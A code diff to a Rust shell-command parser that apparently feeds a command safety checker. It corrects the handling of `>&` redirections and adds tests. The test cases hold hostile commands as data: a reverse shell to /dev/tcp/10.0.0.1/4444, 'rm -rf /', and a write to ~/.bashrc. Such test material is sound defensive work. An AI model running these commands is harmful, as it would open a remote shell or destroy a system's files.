@@ -941,10 +941,18 @@ fn output_target(node: Node<'_>, src: &str) -> Option<String> {
         .child_by_field_name("destination")
         .or_else(|| node.named_children(&mut cursor).last())?;
     let op_text = src.get(node.start_byte()..dest.start_byte()).unwrap_or("");
-    if !op_text.contains('>') || op_text.contains(">&") && !text.contains("&>") {
+    if !op_text.contains('>') {
         return None;
     }
-    Some(word_value(dest, src).0)
+    let target = word_value(dest, src).0;
+    // `2>&1`, `>&-`: a descriptor duplication, not a file. `>& FILE` is a file.
+    if op_text.contains(">&")
+        && !text.contains("&>")
+        && (target == "-" || target.chars().all(|c| c.is_ascii_digit()))
+    {
+        return None;
+    }
+    Some(target)
 }
 
 fn heredoc_body(node: Node<'_>, src: &str) -> Option<String> {
@@ -990,6 +998,11 @@ mod tests {
             ("timeout 10 cargo test", &["cargo test"]),
             ("git commit -m 'rm -rf /'", &["git commit -m 'rm -rf /'"]),
             ("echo hi > ~/.bashrc", &["echo hi >~/.bashrc"]),
+            (
+                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                &["bash -i >/dev/tcp/10.0.0.1/4444"],
+            ),
+            ("ls 2>&1 >/dev/null", &["ls >/dev/null"]),
             (
                 "ssh host 'rm -rf /'",
                 &["rm -f -r /", "ssh host 'rm -rf /'"],
